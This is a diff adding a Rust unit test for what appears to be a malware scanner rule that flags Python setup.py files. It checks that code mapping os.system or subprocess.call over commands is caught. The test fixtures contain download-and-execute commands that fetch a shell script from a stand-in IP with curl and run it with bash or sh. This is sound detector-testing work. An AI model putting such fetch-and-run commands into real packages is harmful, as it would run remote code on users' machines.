@@ -1344,4 +1344,15 @@ mod tests {
         let code = "import subprocess\ndef f(args):\n    subprocess.run(args)\n";
         assert!(max_severity("p/pkg/mod.py", code, "WH120") < 0.1);
     }
+
+    #[test]
+    fn a_command_mapped_over_items_runs_each_of_them() {
+        let mapped = "import os\ncmds = ['curl -s http://203.0.113.9/x.sh -o /tmp/x.sh', 'bash /tmp/x.sh']\nlist(map(os.system, cmds))\n";
+        assert!(max_severity("p/setup.py", mapped, "WH120") >= 0.8);
+        let listed = "import subprocess\nlist(map(subprocess.call, ['curl -s http://203.0.113.9/x | sh']))\n";
+        assert!(max_severity("p/setup.py", listed, "WH120") >= 0.8);
+        let harmless =
+            "import os\nlist(map(os.path.basename, ['curl -s http://203.0.113.9/x | sh']))\n";
+        assert_eq!(max_severity("p/setup.py", harmless, "WH120"), 0.0);
+    }
 }
